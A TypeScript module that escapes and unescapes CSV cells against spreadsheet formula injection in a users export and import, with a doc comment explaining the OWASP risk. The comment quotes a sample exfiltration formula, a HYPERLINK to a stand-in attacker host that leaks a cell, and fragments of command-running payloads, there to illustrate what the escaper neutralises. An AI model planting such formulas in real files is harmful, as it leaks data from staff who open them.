/**
 * CSV formula injection (OWASP): a spreadsheet opening a CSV file reads a cell
 * starting with `=`, `+`, `-`, `@`, TAB or CR as a formula, so a name such as
 * `=HYPERLINK("https://evil.example/?x="&A1,"Click")`, planted by anyone who
 * can name themselves, would run on the machine of the staff member who opens
 * the users export or the import's failed rows. Every cell those files write
 * goes through `escapeFormula`, every cell the import reads through
 * `unescapeFormula`, its exact inverse, so an export imported back gives the
 * same values.
 *
 * - Written: a value whose first character, after any single quotes, is one of
 *   those gets one more `'` in front (`=1+2` -> `'=1+2`, `'=x` -> `''=x`),
 *   except a plain number or phone number, which a spreadsheet reads as a
 *   number anyway and which holds no letter, so no reference, function or
 *   command: an optional sign, then only digits, spaces, dots, parentheses and
 *   hyphens, with at least one digit (`+33612345678`, `-3.5`, `+1 (415) 555-2671`;
 *   not `-2+3+cmd|...`, nor `+1)*cmd`).
 * - Read: a cell starting with `'`, followed by any more single quotes and then
 *   one of those characters, loses its first `'` (`'=1+2` -> `=1+2`, `''=x` ->
 *   `'=x`, `'-3.5` -> `-3.5`); any other cell is kept as it is (`'hello`).
 */

const QUOTE = 0x27;

/** `=`, `+`, `-`, `@`, TAB, CR. */
const isFormulaStart = (c: number): boolean => c === 0x3d || c === 0x2b || c === 0x2d || c === 0x40 || c === 0x09 || c === 0x0d;

/** Whether the first character after the single quotes from `from` on starts a formula. */
function formulaAfterQuotes(value: string, from: number): boolean {
  let i = from;
  while (i < value.length && value.charCodeAt(i) === QUOTE) i++;
  return i < value.length && isFormulaStart(value.charCodeAt(i));
}

/** A number or a phone number: no letters, no operator but a leading sign. */
const NUMBER_LIKE = /^[+-]?[0-9 .()-]+$/;
const DIGIT = /[0-9]/;

/** The value as written in a CSV cell: with one more leading `'` when a spreadsheet would read it as a formula. */
export function escapeFormula(value: string): string {
  const c = value.charCodeAt(0);
  if (c !== QUOTE && !isFormulaStart(c)) return value; // also '' (NaN): the usual cell, one comparison or two
  if (!formulaAfterQuotes(value, 0)) return value;
  if ((c === 0x2b || c === 0x2d) && NUMBER_LIKE.test(value) && DIGIT.test(value)) return value;
  return `'${value}`;
}

/** The value a CSV cell holds: `escapeFormula`'s `'` taken off. */
export function unescapeFormula(cell: string): string {
  return cell.charCodeAt(0) === QUOTE && formulaAfterQuotes(cell, 1) ? cell.slice(1) : cell;
}
